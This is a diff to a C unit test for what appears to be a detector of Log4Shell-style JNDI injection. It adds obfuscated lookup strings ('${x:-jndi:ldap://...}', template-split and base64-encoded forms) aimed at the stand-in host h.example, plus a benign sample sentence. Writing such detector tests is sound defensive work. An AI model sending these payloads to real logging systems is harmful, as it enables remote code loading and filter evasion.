@@ -291,7 +291,14 @@ static void tries_that_spell(void **state)
         ROW("${java:rmi://h.example/a}", "attempt"),
         ROW("${env:ldap://h.example/a}", "attempt"),
         ROW("${MARKER:iiop://h.example/a", "attempt"),
-        /* base64 that holds a lookup, cut */
+        /* the whole of it as a default or a text, or behind templates */
+        ROW("${x:-jndi:ldap://h.example/a}", "attempt"),
+        ROW("${::-jndi:rmi://h.example/a}", "attempt"),
+        ROW("${upper:jndi:ldap://h.example/a}", "attempt"),
+        ROW("${${a}${b}jndi:ldap://h.example/a}", "attempt"),
+        ROW("${jndi${:}:ldap${:}//h.example/a}", "attempt"),
+        /* base64 that holds a lookup, cut, or for a lookup of another library */
+        ROW("${base64Decoder:JHtqbmRpOmxkYXA6Ly9oLmV4YW1wbGUvYX0=}", "attempt"),
         ROW("${base64:JHtqbmRp", "attempt"),
     };
     (void)state;
@@ -317,7 +324,7 @@ static void ordinary_text(void **state)
         "${=NA()}", "${7*7}", "${T(java.lang.Runtime)}",
         "${LDAP_URL:ldap://localhost:389}", "${LDAP_URL:-ldap://localhost:389}", "${a.url:ldap://localhost:${a.port:8389}}",
         "${PROTO:-ldap}://${HOST:-openldap}:${PORT:-389}", "${${PREFIX}:ldap://localhost}", "service:jmx:rmi:///jndi/rmi://${H:-h}:${P:-1}/jmxrmi",
-        "jndi: ${name:x}, ldap: ${url:y}", "${NAMING:-jndi}:${x:-y}", "${jndi.name:java:comp/env/jdbc/ds}", "${x:-j}son ${y:-indi}",
+        "jndi: ${name:x}, ldap: ${url:y}", "Attackers send \"${\" and then jndi with a colon, e.g. jndi:ldap://h.example/a", "${NAMING:-jndi}:${x:-y}", "${jndi.name:java:comp/env/jdbc/ds}", "${x:-j}son ${y:-indi}",
         "${dns:address|h.example} dns://${NAMESPACE:-default}", "${base64:aGVsbG8gd29ybGQ=}", "${docker.image:-ldap}", "${a:-per}mit",
     };
     struct judge_row rows[sizeof texts / sizeof *texts];
